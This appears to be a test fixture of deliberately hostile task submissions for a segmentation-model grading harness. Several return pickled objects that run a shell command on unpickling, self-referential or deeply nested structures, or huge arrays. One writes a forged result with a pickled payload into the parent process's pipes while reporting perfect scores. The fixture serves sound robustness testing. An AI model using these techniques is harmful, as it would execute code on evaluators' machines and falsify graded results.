"""Answers without end, answers in themselves, pickled objects, and bytes written past the answer.

fails: agreement, metrics, nothing, loss, iou, test_report
"""
# %% task_agreement
import os


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


def annotator_agreement(boundaries):
    return np.array([[Command()] * 31] * 23, dtype=object)
# %% task_scores
def scores(truth, prediction):
    answer = {"accuracy": 1.0, "iou": 1.0}
    answer["mean_iou"] = answer
    return answer


def scores_of_nothing(truth):
    answer = []
    for _ in range(100_000):
        answer = [answer]
    return {"accuracy": answer, "iou": 0.0, "mean_iou": float("nan")}
# %% task_loss
def bce_dice_loss(y_true, y_pred):
    return np.broadcast_to(np.float32(1), (1 << 33,))
# %% task_test_report
def test_report(probabilities, masks, threshold):
    """Write a message with a pickled array into every pipe of this process and its parent."""
    import glob
    import io
    import struct

    stream = io.BytesIO()
    np.lib.format.write_array(stream, np.array([Command()], dtype=object), allow_pickle=True)
    text = b'{"d": {"value": {"a": 0}}}'
    message = struct.pack(">QQ", len(text), len(stream.getvalue())) + text + stream.getvalue()
    for place in glob.glob(f"/proc/{os.getppid()}/fd/*") + glob.glob("/proc/self/fd/*"):
        try:
            if os.readlink(place).startswith("pipe:"):
                pipe = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
                os.write(pipe, message)
                os.close(pipe)
        except OSError:
            pass
    return {"accuracy": 1.0, "iou": 1.0, "mean_iou": 1.0}
# %% task_train
